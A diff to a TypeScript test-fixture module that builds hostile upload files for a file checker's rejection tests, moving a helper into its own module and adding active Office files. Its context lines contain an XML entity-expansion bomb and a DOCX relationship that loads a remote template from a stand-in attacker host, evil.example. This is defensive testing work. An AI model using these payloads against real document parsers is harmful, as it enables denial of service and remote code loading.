@@ -1,13 +1,7 @@
 import { deflateRawSync, deflateSync } from 'node:zlib';
+import { hostileFile as file } from './hostile-file.ts';
+import { activeOfficeFiles } from './hostile-office-files.ts';
 import { type Packed, sampleFiles, zipOf } from './sample-files.ts';
-
-/** A file that somebody sends by mistake or to do harm. */
-export interface HostileFile {
-  readonly what: string;
-  /** As the browser names it. */
-  readonly name: string;
-  readonly bytes: Buffer;
-}
 
 const types: Packed = { name: '[Content_Types].xml', content: '<Types/>' };
 const text: Packed = { name: 'word/document.xml', content: '<w:document/>' };
@@ -117,12 +111,6 @@ const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${'<!ENTITY b "&a;&a;&a;&a;">'.repe
 const external =
   '<Relationships><Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>';
 
-const file = (what: string, name: string, bytes: Buffer | string): HostileFile => ({
-  what,
-  name,
-  bytes: Buffer.from(bytes as string),
-});
-
 /** Every kind of file that must not be taken, made anew each time, by the refusal that it deserves. */
 export const hostileFiles = {
   empty: [file('zero bytes', 'leer.pdf', '')],
@@ -225,6 +213,7 @@ export const hostileFiles = {
       'a.docx',
       docx({ name: 'word/a.xml', content: Buffer.from(`\ufeff${entity}`, 'utf16le') }),
     ),
+    ...activeOfficeFiles,
   ],
   locked: [file('a locked PDF', 'a.pdf', pdf('<</Encrypt 5 0 R>>'))],
   'too-many-points': [
